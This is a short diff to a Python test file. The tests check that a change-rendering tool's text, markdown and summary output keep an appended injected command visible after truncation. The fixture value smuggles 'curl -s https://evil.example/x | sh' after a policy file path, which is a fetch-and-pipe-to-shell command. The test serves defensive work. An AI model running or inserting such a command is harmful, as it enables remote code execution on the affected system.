@@ -80,7 +80,9 @@ def test_a_long_string_cut_still_shows_what_was_appended() -> None:
     assert after == '…ard/policy.yaml ; curl -s https://evil.example/x | sh"'
     text = render_changes_text([change], color=False)
     assert "curl -s https://evil.example" in text
-    assert "curl -s https://evil.example" in render_changes_markdown([change])
+    assert "curl -s https://evil.example" in render_changes_markdown([change]).replace(
+        "&#8203;", ""
+    )
     summary = change_summary([change])
     old, new = summary.split(" ", 1)[1].split("→")
     assert old != new and "curl" in new and len(old) <= 20 and len(new) <= 20
